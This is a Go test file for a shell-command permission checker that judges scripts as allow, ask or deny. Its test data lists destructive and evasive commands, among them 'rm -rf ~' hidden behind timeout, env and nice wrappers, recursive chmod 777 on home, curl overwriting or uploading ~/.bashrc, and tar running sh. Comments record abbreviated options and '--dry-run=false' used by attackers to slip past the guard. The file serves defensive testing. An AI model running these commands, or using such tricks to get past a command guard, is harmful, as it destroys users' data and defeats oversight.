package rules_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/cordonsh/cordon/parse"
	"github.com/cordonsh/cordon/rules"
)

// TestAbbreviatedOptions: getopt_long, git's parse-options and argparse
// take any unique prefix of a long option, so an abbreviation is judged
// as each option it may stand for that makes an effect fire, never as
// one that makes an effect harmless (found by an attacker: sed --in-pl
// and chmod --recu were allowed).
func TestAbbreviatedOptions(t *testing.T) {
	root := t.TempDir()
	home := filepath.Join(root, "home")
	ws := filepath.Join(home, "app")
	for _, f := range []string{"app/src/a.go", "app/src/dirty.go", "app/notes/n.md", ".bashrc"} {
		p := filepath.Join(home, f)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte("x"), 0o644)
	}
	repo := &fakeRepo{
		changes: []rules.Change{
			{Path: ws + "/src/dirty.go", Kind: rules.Modified},
			{Path: ws + "/notes/", Kind: rules.Untracked},
		},
		remotes: []string{"origin"},
	}
	set := rules.Builtin()
	tests := []struct {
		script string
		want   rules.Verdict
	}{
		{"sed --in-pl s/a/b/ ~/.bashrc", rules.Ask},
		{"sed --in-pl=.bak s/a/b/ ~/.bashrc", rules.Ask},
		{"sed --in-place s/a/b/ ~/.bashrc", rules.Ask},
		{"sed s/a/b/ ~/.bashrc", rules.Allow},
		{"chmod --recu 777 ~", rules.Ask},
		{"chmod --recursive 777 ~", rules.Ask},
		{"rm --recu --forc src", rules.Ask},
		{"rm --rec notes", rules.Ask},
		{"git clean --forc -d", rules.Ask},
		{"git clean --forc --dry -d", rules.Ask}, // a prefix never makes an effect harmless
		{"git clean --force --dry-run -d", rules.Allow},
		{"git clean --force --dry-run --no-dry -d", rules.Ask},
		{"git reset --har", rules.Ask},
		{"git reset --hard", rules.Ask},
		{"git reset --soft HEAD~1", rules.Allow},
		{"find ~ --del", rules.Allow}, // find has no long options: -delete is judged as written
		{"find ~ -delete", rules.Deny},
		// An abbreviated value option takes the next argument as its
		// value, which stays an operand too.
		{"curl --outp ~/.bashrc https://x.example/a", rules.Ask},
		{"curl --outp=$HOME/.bashrc https://x.example/a", rules.Ask},
		{"curl --data-b @$HOME/.bashrc https://x.example/a", rules.Ask},
		{"cp --target ~/.config a.txt", rules.Ask},
		{"curl -o out.txt https://x.example/a", rules.Allow},
		// A wrapper's abbreviated value option (the parser's): its value
		// is not taken for the command it runs (found in a review:
		// timeout --sig KILL 5 rm -rf ~ was judged as running "KILL").
		{"timeout --sig KILL 5 rm -rf ~", rules.Deny},
		{"env --unse X rm -rf ~", rules.Deny},
		{"nice --adj 5 rm -rf ~", rules.Deny},
		{"timeout --signal=KILL 5 ls", rules.Allow},
		// Options whose values are code, abbreviated.
		{"tar --use-comp=sh -xf x.tar", rules.Ask},
		{"tar --use-comp sh -xf x.tar", rules.Ask},
		{"tar --to-com=sh -xf x.tar", rules.Ask},
		{"tar -xf x.tar", rules.Allow},
		{"ls --al", rules.Allow},
		{"git status --short", rules.Allow},
	}
	for _, tt := range tests {
		cfg := &parse.Config{
			Dialect: parse.Bash, Env: []string{"HOME=" + home, "TMPDIR=/tmp"}, Dir: ws, Knowledge: set,
			Shell: func(argv []string) (parse.ShellCall, error) { return parse.ShellCall{Stdin: true}, nil },
		}
		ctx := &rules.Context{Env: rules.Env{Home: home, Workspace: ws, Getenv: func(k string) string {
			return map[string]string{"HOME": home, "TMPDIR": "/tmp"}[k]
		}}, Repo: repo}
		j := set.Judge(parse.Parse(tt.script, cfg), ctx)
		if j.Verdict != tt.want {
			t.Errorf("%q: got %v, want %v; reasons %+v", tt.script, j.Verdict, tt.want, j.Reasons)
		}
	}
}

// TestOptionValues: an option's value is read as the option's parser
// reads it. A dry run given a value that does not switch it on is no dry
// run (npm publish --dry-run=false published; found by an attacker), and
// after git's --end-of-options every word is an operand (git restore
// --end-of-options -S . restores the pathspecs -S and .). Pathspecs read
// from a file or standard input are judged as ".".
func TestOptionValues(t *testing.T) {
	root := t.TempDir()
	home := filepath.Join(root, "home")
	ws := filepath.Join(home, "app")
	for _, f := range []string{"app/src/a.go", "app/src/dirty.go"} {
		p := filepath.Join(home, f)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte("x"), 0o644)
	}
	repo := &fakeRepo{changes: []rules.Change{{Path: ws + "/src/dirty.go", Kind: rules.Modified}}, remotes: []string{"origin"}}
	set := rules.Builtin()
	tests := []struct {
		script string
		want   rules.Verdict
	}{
		{"npm publish --dry-run=false", rules.Ask},
		{"npm publish --dry-run false", rules.Ask},
		{"npm publish --dry-run=0", rules.Ask},
		{"npm publish --dry-run=no", rules.Ask},
		{"npm publish --dry-run", rules.Allow},
		{"npm publish --dry-run=true", rules.Allow},
		{"npm publish --dry-run true", rules.Allow},
		{"pnpm publish --dry-run=false", rules.Ask},
		{"helm uninstall prod --dry-run=false", rules.Ask},
		{"helm uninstall prod --dry-run", rules.Allow},
		{"rclone purge remote:bucket --dry-run=false", rules.Ask},
		{"rclone sync . remote:b --dry-run=false", rules.Ask},
		{"rclone purge remote:bucket --dry-run", rules.Allow},
		{"kubectl delete pod x --dry-run=server", rules.Allow},
		{"kubectl delete pod x --dry-run=none", rules.Ask},
		{"git clean -fd --dry-run", rules.Allow},

		{"git restore --end-of-options -S .", rules.Ask},
		{"git restore --end-of-options --staged src", rules.Ask},
		{"git checkout --end-of-options -b -- src", rules.Ask},
		{"git restore --staged --end-of-options .", rules.Allow},
		{"git restore --end-of-options src/a.go", rules.Allow},

		{"echo . | git checkout -q --pathspec-from-file=-", rules.Ask},
		{"git checkout --pathspec-from-file list.txt", rules.Ask},
		{"git restore --pathspec-from-file=list.txt", rules.Ask},
		{"git restore -SW --pathspec-from-file=list.txt", rules.Ask},
		{"git restore -S --pathspec-from-file=list.txt", rules.Allow},
		{"echo . | git rm -rfq --pathspec-from-file=-", rules.Deny},
		{"git rm -f --pathspec-from-file list.txt", rules.Deny}, // as git rm -f .
		{"git rm --cached --pathspec-from-file list.txt", rules.Allow},
		{"git add --pathspec-from-file=list.txt", rules.Allow},
		{"git reset --pathspec-from-file=list.txt", rules.Allow},
		{"git stash push --pathspec-from-file=list.txt", rules.Allow},
		{"git commit --pathspec-from-file=list.txt -m x", rules.Allow},
	}
	for _, tt := range tests {
		cfg := &parse.Config{
			Dialect: parse.Bash, Env: []string{"HOME=" + home, "TMPDIR=/tmp"}, Dir: ws, Knowledge: set,
			Shell: func(argv []string) (parse.ShellCall, error) { return parse.ShellCall{Stdin: true}, nil },
		}
		ctx := &rules.Context{Env: rules.Env{Home: home, Workspace: ws, Getenv: func(k string) string {
			return map[string]string{"HOME": home, "TMPDIR": "/tmp"}[k]
		}}, Repo: repo}
		j := set.Judge(parse.Parse(tt.script, cfg), ctx)
		if j.Verdict != tt.want {
			t.Errorf("%q: got %v, want %v; reasons %+v", tt.script, j.Verdict, tt.want, j.Reasons)
		}
	}
}
